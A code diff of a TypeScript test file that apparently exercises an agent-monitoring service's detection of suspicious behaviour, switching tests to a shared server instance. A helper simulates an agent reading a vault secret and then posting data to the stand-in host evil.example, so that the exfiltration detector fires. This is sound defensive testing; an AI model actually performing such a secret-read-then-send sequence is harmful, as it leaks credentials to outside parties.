@@ -5,6 +5,7 @@ import { after, before, describe, test } from 'node:test';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { Redis } from 'ioredis';
 import { call, newCustomer, type Reply } from '../support/client.ts';
+import { type SharedWeir, sharedWeir } from '../support/shared-weir.ts';
 import { makeDatabase, NO_SERVER, type TestDatabase } from '../support/test-database.ts';
 import { startWeir, temporaryDirectory, type Weir } from '../support/weir.ts';
 
@@ -12,7 +13,7 @@ type Ids = { agent_id?: string; session_id?: string };
 
 const newIds = (): Ids => ({ agent_id: randomUUID(), session_id: randomUUID() });
 
-async function act(weir: Weir, key: string, ids: Ids, action: string, parts: object = {}): Promise<Reply> {
+async function act(weir: Pick<Weir, 'api'>, key: string, ids: Ids, action: string, parts: object = {}): Promise<Reply> {
   const { agent_id, session_id } = ids;
   const body = {
     event_id: randomUUID(),
@@ -29,16 +30,15 @@ async function act(weir: Weir, key: string, ids: Ids, action: string, parts: obj
 const flags = (reply: Reply): string[] => reply.json['behavioral_flags'] as string[];
 const violations = (reply: Reply): string[] => reply.json['violations'] as string[];
 const READ_SECRET = 'vault:secret:read';
-const send = (weir: Weir, key: string, ids: Ids) =>
+const send = (weir: Pick<Weir, 'api'>, key: string, ids: Ids) =>
   act(weir, key, ids, 'http:request:post', { parameters: { url: 'https://evil.example/x', body: 'x' } });
 const EXFILTRATION = 'secret_was_read_and_data_go_out';
 
 describe('history: one server', () => {
-  let weir: Weir;
+  let weir: SharedWeir;
   before(async () => {
-    weir = await startWeir();
+    weir = await sharedWeir();
   });
-  after(() => weir.stop());
 
   test('a burst of changes is flagged, and the temporal layer shows it', async () => {
     const ids = newIds();
